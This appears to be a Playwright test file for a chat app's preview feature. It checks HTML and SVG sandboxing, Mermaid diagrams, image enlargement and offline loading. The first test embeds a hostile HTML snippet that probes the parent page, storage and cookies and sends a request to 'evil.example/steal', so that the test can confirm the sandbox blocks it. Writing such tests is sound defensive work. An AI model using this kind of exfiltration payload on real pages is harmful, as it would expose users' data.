// What is shown besides as text: previews of HTML and SVG, diagrams, enlarged images. And the page while its server is off.
import assert from 'node:assert/strict'
import { mkdir } from 'node:fs/promises'
import { after, test } from 'node:test'
import type { Page } from 'playwright-core'
import { axeViolations } from '../support/axe.ts'
import { answered, pageTests, send } from '../support/browser.ts'
import { chat, startScriptedServer } from '../support/scripted-server.ts'

const server = await startScriptedServer()
after(server.stop)
const own = await startScriptedServer()
after(own.stop)
const onPage = await pageTests(() => server.url)
/** Where screenshots are put to be looked at; none are taken without it. */
const pictures = process.env.CRIA_SCREENSHOTS

const say = (...pieces: readonly string[]) => server.scripts.set('/v1/chat/completions', () => chat(pieces))

async function picture(page: Page, name: string): Promise<void> {
  if (pictures === undefined) return
  await mkdir(pictures, { recursive: true })
  await page.screenshot({ path: `${pictures}/${name}.png` })
}

/** What would leave for anywhere but the server; what a policy stops never gets so far. */
async function watchElsewhere(page: Page): Promise<string[]> {
  const elsewhere: string[] = []
  await page.route(
    (url) => !url.href.startsWith(server.url),
    (route) => {
      elsewhere.push(route.request().url())
      return route.abort()
    },
  )
  return elsewhere
}

test(
  'HTML is previewed in a frame whose scripts run, and reach neither the page, nor its storage, nor a network',
  onPage(async ({ page }) => {
    const elsewhere = await watchElsewhere(page)
    const html = `<h1>Hello</h1><p id=out></p><img src="https://evil.example/i.png"><script>
const tries = {
  parent: () => parent.document.title,
  storage: () => localStorage.length,
  cookie: () => (document.cookie = 'a=1'),
  top: () => { top.location = 'https://evil.example/' },
}
const found = Object.entries(tries).map(([name, act]) => { try { act(); return name + ' open' } catch { return name + ' closed' } })
fetch('https://evil.example/steal').catch(() => {})
fetch('/health').then(() => found.push('server open'), () => found.push('server closed')).finally(() => {
  document.getElementById('out').textContent = found.join(', ')
})
</script><button onclick="location = 'https://evil.example/?leave'">Leave</button>`
    say('```html\n', html, '\n```\n')
    await send(page, 'A page')
    await answered(page)
    assert.equal(await page.locator('iframe.preview').count(), 0)
    await page.getByRole('button', { name: 'Preview' }).click()
    const frame = page.frameLocator('iframe.preview')
    await frame.getByRole('heading', { name: 'Hello' }).waitFor()
    const out = frame.locator('#out')
    await out.getByText('server closed').waitFor()
    assert.equal(await out.textContent(), 'parent closed, storage closed, cookie closed, top closed, server closed')
    await picture(page, 'preview')
    assert.deepEqual(await axeViolations(page), [])
    await frame.getByRole('button', { name: 'Leave' }).click()
    await frame.getByRole('heading', { name: 'Hello' }).waitFor({ state: 'detached' })
    assert.deepEqual(elsewhere, [])
    await page.getByRole('button', { name: 'Show code' }).click()
    await page.locator('.code pre').waitFor()
  }),
)

test(
  'SVG is previewed as well',
  onPage(async ({ page }) => {
    say('```svg\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><circle r="4" cx="5" cy="5"/></svg>\n```\n')
    await send(page, 'A circle')
    await answered(page)
    await page.getByRole('button', { name: 'Preview' }).click()
    await page.frameLocator('iframe.preview').locator('circle').waitFor()
  }),
)

test(
  'Mermaid is drawn as an image, which is enlarged by a click; what cannot be drawn stays code and says why',
  onPage(async ({ page, errors }) => {
    const elsewhere = await watchElsewhere(page)
    say('```mermaid\nflowchart LR\n  A[Start here] --> B{Good?}\n  B -- yes --> C[End]\n```\n')
    await send(page, 'A diagram')
    await answered(page)
    const image = page.locator('.diagram img')
    await image.waitFor()
    await page.waitForFunction(() => document.querySelector<HTMLImageElement>('.diagram img')!.naturalWidth > 100)
    await picture(page, 'diagram')
    assert.deepEqual(await axeViolations(page), [])
    await page.getByRole('button', { name: 'Enlarge: Diagram' }).press('Enter')
    await page.getByRole('dialog', { name: 'Diagram' }).waitFor()
    await picture(page, 'diagram-large')
    await page.keyboard.press('Escape')
    await page.getByRole('dialog').waitFor({ state: 'detached' })
    assert.equal(await page.evaluate(() => document.activeElement?.getAttribute('aria-label')), 'Enlarge: Diagram')
    await page.getByRole('button', { name: 'Show code' }).click()
    await page.locator('.code pre', { hasText: 'flowchart LR' }).waitFor()
    say('```mermaid\nflowchart LR\n  A[[[ --> \n```\n')
    await send(page, 'A wrong one')
    await page.getByText(/^The diagram can't be drawn: /).waitFor()
    await page.locator('.message:last-child .code pre').waitFor()
    assert.deepEqual(elsewhere, [])
    assert.deepEqual(errors, [])
  }),
)

test(
  'an image of a message is enlarged with the keyboard',
  onPage(async ({ page }) => {
    say('A dot.')
    await page.locator('.head .model').waitFor()
    const url = await page.evaluate(() => {
      const canvas = document.createElement('canvas')
      canvas.getContext('2d')!.fillRect(0, 0, 40, 40)
      return canvas.toDataURL()
    })
    await page.locator('.composer input[type=file]').setInputFiles({
      name: 'dot.png',
      mimeType: 'image/png',
      buffer: Buffer.from(url.slice(url.indexOf(',') + 1), 'base64'),
    })
    await page.locator('.added img').waitFor()
    await send(page, 'What is it?')
    await answered(page)
    await page.getByRole('button', { name: 'Enlarge: Image 1' }).press('Enter')
    const dialog = page.getByRole('dialog', { name: 'Image 1' })
    await dialog.waitFor()
    assert.deepEqual(await axeViolations(page), [])
    await dialog.getByRole('button', { name: 'Close' }).click()
    await dialog.waitFor({ state: 'detached' })
  }),
)

test(
  'the page can be installed, and opens while its server is off',
  onPage(
    async ({ page, context }) => {
      own.scripts.set('/v1/chat/completions', () => chat(['Kept.']))
      await page.goto(own.url)
      const manifest = await page.evaluate(async () => {
        const { href } = document.querySelector<HTMLLinkElement>('link[rel=manifest]')!
        return (await fetch(href)).json()
      })
      for (const { src } of manifest.icons) assert.equal((await page.request.get(own.url + src)).status(), 200)
      await page.waitForFunction(() => navigator.serviceWorker.ready.then(() => true))
      await send(page, 'Remember me')
      await answered(page)
      own.stop()
      const later = await context.newPage()
      await later.goto(own.url)
      await later.getByText("Can't reach the server. Retrying…").waitFor()
      await later.getByRole('link', { name: 'Remember me' }).click()
      await later.getByText('Kept.').waitFor()
    },
    { serviceWorkers: 'allow' },
  ),
)
